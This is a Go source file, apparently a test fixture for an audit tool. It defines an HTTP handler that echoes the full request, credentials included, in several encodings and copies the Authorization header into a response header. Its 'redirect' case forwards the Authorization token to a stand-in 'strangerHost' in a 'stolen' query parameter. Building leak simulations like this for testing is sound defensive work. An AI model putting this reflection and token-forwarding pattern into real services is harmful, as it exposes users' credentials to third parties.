package audit

import (
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httputil"
	"net/url"
)

// echo answers with what it was sent, in the spelling that the parameter "as" names, as
// services do that are careless with credentials.
func echo(w http.ResponseWriter, r *http.Request) {
	dump, err := httputil.DumpRequest(r, true)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	text := string(dump)
	w.Header().Set("Content-Type", "text/plain")
	w.Header().Set("X-Seen", r.Header.Get("Authorization"))
	switch r.URL.Query().Get("as") {
	case "gzip":
		w.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(w)
		defer z.Close()
		_, _ = io.WriteString(z, text) // who asked may be gone; the same below
	case "base64":
		_, _ = io.WriteString(w, base64.StdEncoding.EncodeToString(dump))
	case "json":
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(text)
	case "url":
		_, _ = io.WriteString(w, url.QueryEscape(text))
	case "redirect":
		w.Header().Set("Location", "http://"+strangerHost+"/?stolen="+url.QueryEscape(r.Header.Get("Authorization")))
		w.WriteHeader(http.StatusFound)
	case "slow": // in pieces that cut everything
		for _, c := range dump {
			_, _ = w.Write([]byte{c})
			_ = http.NewResponseController(w).Flush()
		}
	case "error":
		http.Error(w, text, http.StatusInternalServerError)
	default:
		_, _ = io.WriteString(w, text)
	}
}

// echoes are the spellings in which echo answers.
var echoes = []string{"plain", "gzip", "base64", "json", "url", "redirect", "slow", "error"}
